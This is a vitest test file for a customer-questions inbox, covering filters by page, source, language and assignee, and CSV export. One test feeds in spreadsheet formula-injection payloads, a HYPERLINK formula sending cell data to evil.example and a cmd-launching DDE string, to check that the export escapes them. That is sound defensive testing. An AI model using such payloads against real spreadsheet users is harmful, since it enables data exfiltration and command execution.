import { describe, expect, it } from 'vitest'
import { createInbox } from '../../../../../tests/support/content/questions-workspace.ts'
import { createTestContext } from '../../../../../tests/support/content/test-context.ts'
import { newId } from '../../../../kernel/ids.ts'
import { systemTransaction } from '../../../../platform/db/index.ts'
import type { QuestionFilter } from '../../contract.ts'
import { listQuestions } from '../questions.queries.ts'
import { assignQuestion } from '../teamwork/assign-question.ts'
import { exportQuestions } from './export-questions.ts'
import { filterValues } from './filter-values.ts'

const testContext = await createTestContext()

const source = (id: string, title: string) => ({
  ...{ kind: 'faq' as const, id, source_id: id, title },
  url: null,
  excerpt: '',
})

async function filledInbox() {
  const inbox = await createInbox(testContext)
  const care = newId()
  const first = await inbox.asked('Wash linen?', {
    page_url: 'https://woven.example/care?utm=1#top',
    sources: [source(care, 'Care')],
  })
  await inbox.asked('Leinen waschen?', {
    page_url: 'https://woven.example/care',
    sources: [source(care, 'Care of linen')],
    outcome: 'refused',
  })
  await inbox.asked('Ship?', { page_url: 'https://woven.example/shipping' })
  await systemTransaction(testContext.db, (transaction) =>
    transaction.execute(
      `update messages set language = case when question like 'Leinen%' then 'de' else 'en' end where workspace_id = '${inbox.id}'`,
    ),
  )
  await assignQuestion(inbox.ctx, { id: first, assignee_id: inbox.userId })
  const listed = async (filter: Partial<QuestionFilter>) =>
    (await listQuestions(inbox.ctx, { page: 1, limit: 10, ...filter })).items.map(({ question }) => question)
  return { ...inbox, care, listed }
}

/** The text of an export. */
async function exported(ctx: Parameters<typeof exportQuestions>[0], filter: Partial<QuestionFilter> = {}) {
  let text = ''
  for await (const part of exportQuestions(ctx, { view: 'all', ...filter })) text += part
  return text
}

describe('the filters of questions', () => {
  it('select by page, source, language and assignee, alone and together', async () => {
    const { listed, care, userId } = await filledInbox()
    expect(await listed({ page_url: 'https://woven.example/care' })).toEqual(['Leinen waschen?', 'Wash linen?'])
    // The other one was refused: the source did not help.
    expect(await listed({ source_id: care })).toEqual(['Wash linen?'])
    expect(await listed({ source_id: care, language: 'en' })).toEqual(['Wash linen?'])
    expect(await listed({ assignee: userId })).toEqual(['Wash linen?'])
    expect(await listed({ assignee: 'none' })).toEqual(['Ship?', 'Leinen waschen?'])
    expect(await listed({ assignee: 'none', outcome: 'refused' })).toEqual(['Leinen waschen?'])
  })

  it('offer the values of the latest questions of this workspace, most frequent first', async () => {
    const { ctx, care } = await filledInbox()
    expect(await filterValues(ctx)).toEqual({
      pages: [
        { url: 'https://woven.example/care', count: 2 },
        { url: 'https://woven.example/shipping', count: 1 },
      ],
      sources: [{ id: care, title: 'Care', count: 1 }],
      languages: [
        { language: 'en', count: 2 },
        { language: 'de', count: 1 },
      ],
    })
    const other = await createInbox(testContext)
    expect(await filterValues(other.ctx)).toEqual({ pages: [], sources: [], languages: [] })
    expect((await listQuestions(other.ctx, { page: 1, limit: 10, source_id: care })).total).toBe(0)
  })
})

describe('an export of questions', () => {
  it('contains the matching questions, with the names of members', async () => {
    const { ctx } = await filledInbox()
    const lines = (await exported(ctx, { language: 'en' })).split('\r\n')
    expect(lines).toHaveLength(4)
    expect(lines[0]).toMatch(/^\uFEFFAsked,Question,Answer,Outcome,/u)
    expect(lines[1]).toContain(',Ship?,An answer.,answered,99,en,')
    expect(lines[2]).toContain('Test Person')
  })

  it("protects visitors' texts from being formulas", async () => {
    const { ctx, asked } = await createInbox(testContext)
    await asked('=HYPERLINK("https://evil.example?"&A1,"Click")', { answer: "@SUM(1+1)*cmd|' /C calc'!A0" })
    const text = await exported(ctx)
    expect(text).toContain(`,"'=HYPERLINK(""https://evil.example?""&A1,""Click"")"`)
    expect(text).toContain(`,"'@SUM(1+1)`)
  })

  it('contains each question once across several batches', async () => {
    const { ctx, id: workspaceId } = await createInbox(testContext)
    await systemTransaction(testContext.db, (transaction) =>
      transaction.execute(
        `insert into messages (workspace_id, id, conversation_id, question, answer, outcome)
         select '${workspaceId}', gen_random_uuid(), gen_random_uuid(), 'Question ' || n || '.', '', 'answered'
         from generate_series(1, 1201) n`,
      ),
    )
    const text = await exported(ctx)
    const found = text.match(/Question \d+\./g) ?? []
    expect([found.length, new Set(found).size]).toEqual([1201, 1201])
  })
})
